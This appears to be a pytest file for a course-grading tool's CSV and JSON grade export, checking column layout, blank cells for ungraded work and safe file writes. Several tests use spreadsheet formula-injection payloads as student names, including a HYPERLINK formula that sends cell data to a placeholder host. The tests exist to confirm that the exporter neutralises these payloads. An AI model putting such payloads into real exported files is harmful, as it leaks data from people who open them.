"""`grades.csv` and the JSON record: the right columns, safe cells, whole files."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from antorcha.course.model import Course, Exercise, Topic
from antorcha.errors import UserError
from antorcha.export.csv import grades, write_grades
from antorcha.export.record import submissions_record
from antorcha.report.feedback import render_markdown
from antorcha.results import CheckResult, Diagnosis, SubmissionResult, TopicResult, Verdict, score_exercise

COURSE = Course(
    "A course",
    (
        Topic("tensors", (Exercise("center", 2.0), Exercise("scale", 1.0))),
        Topic("autograd", (Exercise("scale", 3.0),)),
    ),
    language="en",
)
RIGHT = CheckResult("t", "x", Verdict.PASSED, comparisons=1)
WRONG = CheckResult("t", "x", Verdict.WRONG)


def tensors(verdict: Verdict = Verdict.PASSED, note: Diagnosis | None = None) -> TopicResult:
    scored = (score_exercise("center", 2.0, (RIGHT, RIGHT, WRONG)), score_exercise("scale", 1.0, (RIGHT,)))
    return TopicResult("tensors", scored, verdict, note)


def autograd(verdict: Verdict = Verdict.PASSED) -> TopicResult:
    return TopicResult("autograd", (score_exercise("scale", 3.0, (WRONG,)),), verdict)


def rows(*submissions: SubmissionResult) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(grades(COURSE, submissions))))


def test_a_row_has_total_percent_and_a_column_for_each_exercise() -> None:
    (row,) = rows(SubmissionResult("ana", (tensors(), autograd())))
    assert row == {
        "student": "ana",
        "points": "2.333333",
        "max": "6",
        "percent": "38.89",
        "tensors.center": "1.333333",
        "tensors.scale": "1",
        "autograd.scale": "0",
        "verdict": "graded",
    }


def test_what_was_not_graded_is_an_empty_cell_and_no_zero() -> None:
    incomplete, nothing = rows(SubmissionResult("ana", (tensors(),)), SubmissionResult("bea", ()))
    assert incomplete["autograd.scale"] == ""
    assert incomplete["verdict"] == "incomplete"
    assert nothing["points"] == nothing["percent"] == nothing["tensors.center"] == ""
    assert nothing["verdict"] == "not_graded"


def test_the_worst_verdict_of_a_whole_file_is_the_rows() -> None:
    submission = SubmissionResult("ana", (tensors(Verdict.MISSING), autograd(Verdict.UNREADABLE)))
    assert rows(submission)[0]["verdict"] == "unreadable"


@pytest.mark.parametrize(
    "name", ["=1+1", "+a", "-a", "@SUM(A1)", "\t=1", "\n=1", " =1", "＝1", "|cmd", "\r@a", "\u200b=1", '"=1', "\x00=1"]
)
def test_a_name_is_never_a_formula(name: str) -> None:
    cell = rows(SubmissionResult(name, (tensors(),)))[0]["student"]
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n\x00")


@pytest.mark.parametrize(
    "name",
    [
        'x;=HYPERLINK("http://e/?"&A1)',
        "x; +1",
        "x;\t@a",
        "x,=1",
        "a\t=1",
        "x|=1",
        "x;＝1",
        'x;"=1"',
        "x;\r\n-1",
        "x;;=1",
    ],
)
@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits(name: str, separator: str) -> None:
    text = grades(COURSE, [SubmissionResult(name, (tensors(),))])
    for row in csv.reader(io.StringIO(text), delimiter=separator):
        for cell in row:
            assert not cell.strip(' "\u200b').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize(
    ("verdict", "check"),
    [
        (Verdict.MISSING, ""),
        (Verdict.UNREADABLE, "t"),
        (Verdict.GRADER_ERROR, ""),
        (Verdict.GRADER_ERROR, "t"),
        (Verdict.NOT_TESTED, "t"),
    ],
)
def test_an_exercise_that_was_not_graded_has_no_zero_anywhere(verdict: Verdict, check: str) -> None:
    checks = (CheckResult(check, "scale", verdict, diagnosis=None),)
    topic = TopicResult("autograd", (score_exercise("scale", 3.0, checks),), verdict)
    submission = SubmissionResult("ana", (tensors(), topic))
    assert rows(submission)[0]["autograd.scale"] == ""
    assert submissions_record(COURSE, [submission])[0]["exercises"]["autograd.scale"]["points"] is None
    assert "scale: " in render_markdown(COURSE, submission)
    assert "(– / " in render_markdown(COURSE, submission)
    assert rows(submission)[0]["points"] == "2.333333"


@pytest.mark.parametrize("verdict", [Verdict.NOT_STARTED, Verdict.MISSING, Verdict.CPU_LIMIT, Verdict.ERROR])
def test_what_was_graded_and_earned_nothing_is_a_zero(verdict: Verdict) -> None:
    topic = TopicResult("autograd", (score_exercise("scale", 3.0, (CheckResult("t", "scale", verdict),)),))
    assert rows(SubmissionResult("ana", (topic,)))[0]["autograd.scale"] == "0"


@pytest.mark.parametrize("name", ["Núñez, José", 'Ana "la Grande"', "李雷", "x;y", "a=b", "ana-maría"])
def test_an_ordinary_name_comes_back_as_it_was(name: str) -> None:
    assert rows(SubmissionResult(name, (tensors(),)))[0]["student"] == name


def test_the_file_is_written_only_when_it_says_something_new(tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    submissions = [SubmissionResult("jos\udce9", (tensors(),))]
    assert write_grades(path, COURSE, submissions) is True
    os.utime(path, (1, 1))
    assert write_grades(path, COURSE, submissions) is False
    assert path.stat().st_mtime == 1
    assert write_grades(path, COURSE, []) is True
    assert [path.name for path in tmp_path.iterdir()] == ["grades.csv"]


def test_a_file_that_cannot_be_replaced_is_one_error_and_leaves_nothing_behind(tmp_path: Path) -> None:
    (tmp_path / "grades.csv" / "in the way").mkdir(parents=True)
    with pytest.raises(UserError, match=r"grades\.csv could not be written") as caught:
        write_grades(tmp_path / "grades.csv", COURSE, [])
    assert caught.value.exit_code == 3
    assert [path.name for path in tmp_path.iterdir()] == ["grades.csv"]


def test_an_exercise_goes_by_its_bare_name_where_that_is_unique() -> None:
    (record,) = submissions_record(COURSE, [SubmissionResult("ana", (tensors(), autograd()))])
    assert set(record["exercises"]) == {"center", "tensors.scale", "autograd.scale"}
    center = record["exercises"]["center"]
    assert (center["points"], center["max"], center["verdict"]) == (1.333333, 2.0, "wrong")
    assert (record["points"], record["max"]) == (2.333333, 6.0)
    assert (record["verdict"], record["message"]) == ("graded", "")


def test_a_hand_in_that_could_not_be_read_says_why() -> None:
    (record,) = submissions_record(COURSE, [SubmissionResult("ana", (tensors(Verdict.UNREADABLE),))])
    assert record["verdict"] == "unreadable"
    assert "could not be read" in record["message"]
